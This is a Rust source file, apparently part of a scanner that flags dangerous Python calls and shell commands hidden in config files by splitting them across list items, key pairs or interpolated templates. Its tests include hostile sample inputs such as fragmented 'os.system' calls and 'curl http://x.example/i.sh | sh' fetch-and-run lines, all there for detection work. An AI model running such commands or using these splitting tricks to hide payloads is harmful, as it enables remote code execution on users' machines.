//! What several values say together: the words of a command, the lines of a program, the pieces of a name; and texts
//! that are filled in from other values of the file.

use super::values::{is_command, is_program};
use super::{Act, Part, Reader, words};
use crate::pickle::Effect;
use crate::python;

/// Texts of one list or mapping that are put together, and letters of one of them.
const MAX_STRINGS: usize = 256;
const MAX_LETTERS: usize = 2_000;
/// Pieces of one name.
const MAX_NAME: usize = 12;
/// Texts with interpolations that are filled in.
const MAX_DEFERRED: usize = 256;
/// Letters of a text with interpolations.
const MAX_FILLED: usize = 4_000;

/// What a value that names a module stands under, and what the function in it does.
const MODULE: [&str; 12] = [
    "module",
    "mod",
    "lib",
    "library",
    "package",
    "pkg",
    "import",
    "from",
    "namespace",
    "ns",
    "source",
    "file",
];
const FUNCTION: [&str; 24] = [
    "loader",
    "load",
    "builder",
    "factory",
    "creator",
    "initializer",
    "handler",
    "callback",
    "function",
    "func",
    "fn",
    "call",
    "callable",
    "method",
    "attr",
    "attribute",
    "name",
    "symbol",
    "class",
    "cls",
    "target",
    "do",
    "op",
    "entry",
];
/// What a program stands under, and its arguments.
const PROGRAM: [&str; 11] = [
    "command",
    "cmd",
    "program",
    "exec",
    "executable",
    "bin",
    "binary",
    "interpreter",
    "shell",
    "run",
    "runner",
];
const ARGUMENTS: [&str; 8] =
    ["args", "argv", "arguments", "params", "parameters", "flags", "options", "input"];

/// Lists of one mapping that are kept, and texts of one of them.
const MAX_LISTS: usize = 16;
const MAX_CROSSED: usize = 16;

/// Whether a word of a key, or what it is the plural of, is one of these.
fn named(key: &str, list: &[&str]) -> bool {
    let key = key.to_ascii_lowercase();
    let mut words = key.split(['_', '-', '.']);
    words.any(|word| list.contains(&word) || word.strip_suffix('s').is_some_and(|word| list.contains(&word)))
}

impl Reader {
    /// Keeps a text of the innermost list or mapping.
    pub(super) fn string(&mut self, text: &str) {
        let key = &self.key;
        if let Some(level) = self.levels.last_mut().filter(|level| level.strings.len() < MAX_STRINGS) {
            let key = if level.list { String::new() } else { key.clone() };
            level.strings.push((key, text.chars().take(MAX_LETTERS).collect()));
        }
    }

    /// Judges the texts of the list or mapping that ends here.
    pub(super) fn joined(&mut self, at: u64) {
        let Some(level) = self.levels.last_mut() else { return };
        let strings = std::mem::take(&mut level.strings);
        let lists = std::mem::take(&mut level.lists);
        let (list, key) = (level.list, level.key.clone());
        self.crossed(&strings, &lists, at);
        let above = self.levels.len().checked_sub(2).and_then(|above| self.levels.get_mut(above));
        if let Some(outer) = above.filter(|outer| list && !outer.list && outer.lists.len() < MAX_LISTS)
            && (1..=MAX_CROSSED).contains(&strings.len())
        {
            outer.lists.push((key.clone(), strings.iter().map(|(_, text)| text.clone()).collect()));
        }
        if strings.len() < 2 || self.of_words(&key, "a") || list && words::prose(&key) && strings.len() > 4 {
            return;
        }
        if list { self.list(&strings, at) } else { self.mapping(&strings, at) }
    }

    /// Judges lists of modules beside lists of functions, or one of them beside a single name.
    fn crossed(&mut self, strings: &[(String, String)], lists: &[(String, Vec<String>)], at: u64) {
        if lists.is_empty() {
            return;
        }
        let single = |(key, text): &(String, String)| (key.clone(), vec![text.clone()]);
        let all: Vec<(String, Vec<String>)> =
            lists.iter().cloned().chain(strings.iter().take(MAX_STRINGS / 4).map(single)).collect();
        for (left, modules) in all.iter().filter(|(key, _)| named(key, &MODULE)) {
            for (right, functions) in all.iter().filter(|(key, _)| named(key, &FUNCTION)) {
                if left == right || modules.len() + functions.len() < 3 {
                    continue;
                }
                for (module, function) in modules.iter().flat_map(|m| functions.iter().map(move |f| (m, f))) {
                    if let Some(path) = python::names_power(&format!("{module}.{function}")) {
                        self.power(&path, at);
                    }
                }
            }
        }
    }

    fn list(&mut self, strings: &[(String, String)], at: u64) {
        let texts: Vec<&str> = strings.iter().map(|(_, text)| text.as_str()).collect();
        if texts.len() <= MAX_NAME
            && let Some(path) =
                python::names_power(&texts.concat()).or_else(|| python::names_power(&texts.join(".")))
        {
            self.power(&path, at);
        }
        let lines = texts.iter().map(|text| text.trim_end_matches('\n')).collect::<Vec<_>>().join("\n");
        let concat = texts.concat();
        if let Some(program) = [&lines, &concat].into_iter().find(|text| is_program(text)) {
            self.program_at(program.clone(), at);
        }
        let mut said: Vec<String> = Vec::new();
        for text in [texts.join(" "), concat, lines] {
            if !said.contains(&text) && is_command(&text) {
                said.push(text);
            }
        }
        for text in said {
            self.command_at(text, at);
        }
    }

    fn mapping(&mut self, strings: &[(String, String)], at: u64) {
        for pair in strings.windows(2) {
            let [(first, module), (second, function)] = pair else { continue };
            for ((left, one), (right, other)) in
                [((first, module), (second, function)), ((second, function), (first, module))]
            {
                let asks = named(left, &MODULE) && named(right, &FUNCTION);
                if asks && let Some(path) = python::names_power(&format!("{one}.{other}")) {
                    self.power(&path, at);
                }
                if named(left, &PROGRAM) && named(right, &ARGUMENTS) {
                    let line = format!("{one} {other}");
                    if is_command(&line) {
                        self.command_at(line, at);
                    }
                }
            }
        }
        for count in 2..=4 {
            for window in strings.windows(count) {
                let whole: String = window.iter().map(|(_, text)| text.as_str()).collect();
                // A name in pieces: none of which is one.
                if whole.len() <= 60
                    && !window.iter().any(|(_, text)| python::names_power(text).is_some())
                    && let Some(path) = python::names_power(&whole)
                {
                    self.power(&path, at);
                }
            }
        }
        let open = |text: &str| {
            let text = text.trim();
            ["|", "&&", ";", "$(", ">", "\\"].iter().any(|mark| text.ends_with(mark))
                || ["|", "&&", ";", ">"].iter().any(|mark| text.starts_with(mark))
        };
        if strings.iter().any(|(_, text)| open(text)) {
            let texts: Vec<&str> = strings.iter().map(|(_, text)| text.as_str()).collect();
            for text in [texts.join(" "), texts.concat()] {
                if is_command(&text) {
                    self.command_at(text, at);
                }
            }
        }
    }

    /// Keeps a text that is filled in when all of the file is known.
    pub(super) fn defer(&mut self, text: &str, at: u64) {
        if text.len() > MAX_FILLED || !(text.contains("${") || text.contains("%(")) {
            return;
        }
        if self.deferred.len() < MAX_DEFERRED {
            let path = self.path();
            self.deferred.push((text.to_owned(), path, at));
        } else {
            self.limit("it has more texts that are put together than are examined");
        }
    }

    /// Judges what was put together.
    pub(super) fn deferred(&mut self) {
        for (text, path, at) in std::mem::take(&mut self.deferred) {
            let whole = self.interpolated(&self.filled(&text), &path);
            if whole == text {
                continue;
            }
            self.whole((whole, path, at));
        }
    }

    fn whole(&mut self, (whole, path, at): Part) {
        if let Some(name) = python::names_power(&whole) {
            self.item_at(Act::Calls, &name, Effect::Executes, at, path.clone());
        }
        // The path of a value that was read before is gone: it is put where the next one would look for it.
        let said = super::Said { path, text: whole, offset: at };
        if is_program(&said.text) && self.config.nodes.len() < MAX_STRINGS {
            self.config.nodes.push(said);
        } else if is_command(&said.text) && self.config.commands.len() < super::MAX_COMMANDS {
            self.config.commands.push(said);
        }
    }

    /// A text of settings with `%(name)s` filled in from its section.
    fn interpolated(&self, text: &str, path: &str) -> String {
        let section = path.rsplit_once('.').map_or("", |(section, _)| section);
        let mut whole = text.to_owned();
        for _ in 0..8 {
            let Some(start) = whole.find("%(") else { break };
            let Some(len) = whole.get(start..).and_then(|rest| rest.find(")s")) else { break };
            let name = whole.get(start + 2..start + len).unwrap_or("");
            let value = self.scalars.get(&format!("{section}.{name}")).or_else(|| self.scalars.get(name));
            let Some(value) = value.or_else(|| self.scalars.get(&format!("DEFAULT.{name}"))) else { break };
            let value = value.clone();
            whole.replace_range(start..start + len + 2, &value);
            if whole.len() > MAX_FILLED {
                break;
            }
        }
        whole
    }
}

#[cfg(test)]
mod tests {
    use mantlet_vocab::MemorySource;

    use super::super::{Config, json, lines, yaml};
    use crate::pickle::Effects;

    fn read(text: &str) -> Config {
        json(&MemorySource::new(text.as_bytes()), Effects::default())
    }

    #[test]
    fn pieces_are_judged_together() {
        for hostile in [
            r#"{"hook": ["os", ".", "system"]}"#,
            r#"{"hook": ["o", "s.sys", "tem"]}"#,
            r#"{"p1": "os.", "p2": "system"}"#,
            r#"{"lib": "subprocess", "call": "getoutput"}"#,
            r#"{"x": {"call": "system", "from": "posix"}}"#,
            r#"{"modules": ["json", "os"], "functions": ["dumps", "system"]}"#,
            r#"{"steps": {"lib": "subprocess", "calls": ["getoutput", "run"]}}"#,
        ] {
            assert!(!read(hostile).items.is_empty(), "{hostile}");
        }
        for plain in [
            r#"{"category": "os", "type": "system"}"#,
            r#"{"module": "torch.nn", "name": "Linear"}"#,
            r#"{"words": ["os", "is", "a", "system"]}"#,
            r#"{"modules": ["json", "torch"], "functions": ["dumps", "system"]}"#,
            r#"{"platforms": ["linux", "os"], "labels": ["system", "other"]}"#,
        ] {
            assert_eq!(read(plain).items.len(), 0, "{plain}");
        }
        assert_eq!(read(r#"{"init": ["import os", "x = 1", "os.system('id')"]}"#).nodes.len(), 2);
        assert_eq!(read(r#"{"names": ["import", "export"]}"#).nodes.len(), 0);
        let commands = |text: &str| read(text).commands.len();
        assert!(commands(r#"{"a": "curl http://x.example/i.sh |", "b": "sh"}"#) > 0);
        assert!(commands(r#"{"steps_x": ["cu", "rl http://x.example/i | s", "h"]}"#) > 0);
        assert!(commands(r#"{"x": {"bin": "bash", "arguments": "-c 'curl http://x.example | sh'"}}"#) > 0);
        assert_eq!(commands(r#"{"a": "the first;", "b": "the second"}"#), 0);
    }

    #[test]
    fn every_pair_of_keys_has_its_effect() {
        for module in super::MODULE {
            for function in super::FUNCTION {
                let text = format!(r#"{{"x": {{"{module}": "subprocess", "{function}": "getoutput"}}}}"#);
                assert!(!read(&text).items.is_empty(), "{text}");
                let lists = format!(
                    r#"{{"{module}s": ["json", "subprocess"], "{function}s": ["dumps", "getoutput"]}}"#
                );
                assert!(!read(&lists).items.is_empty(), "{lists}");
                let plain = format!(r#"{{"x": {{"{module}": "torch.nn", "{function}": "Linear"}}}}"#);
                assert!(
                    read(&plain).items.iter().all(|item| item.value != "torch.nn.Linear"
                        || item.effect != crate::pickle::Effect::Executes),
                    "{plain}"
                );
            }
        }
        for program in super::PROGRAM {
            for arguments in super::ARGUMENTS {
                let text = format!(
                    r#"{{"x": {{"{program}": "bash", "{arguments}": "-c 'curl http://x.example | sh'"}}}}"#
                );
                assert!(!read(&text).commands.is_empty(), "{text}");
                let plain = format!(r#"{{"x": {{"{program}": "Adam", "{arguments}": "lr and betas"}}}}"#);
                assert!(read(&plain).commands.is_empty(), "{plain}");
            }
        }
    }

    #[test]
    fn texts_are_filled_in_from_other_values() {
        let items = |text: &str| yaml(text, Effects::default()).items.len();
        assert_eq!(items("a: os\nb: system\nhook: ${a}.${b}\n"), 1);
        assert_eq!(items("a: os\nb: path\nhook: ${a}.${b}\n"), 0);
        assert_eq!(lines("[x]\na = os\nhook = %(a)s.system\n", Effects::default()).items.len(), 1);
        let commands = yaml("h: http://x.example/i\nrun_it: curl ${h} | sh\n", Effects::default()).commands;
        assert!(commands.iter().any(|said| said.text == "curl http://x.example/i | sh"));
    }
}
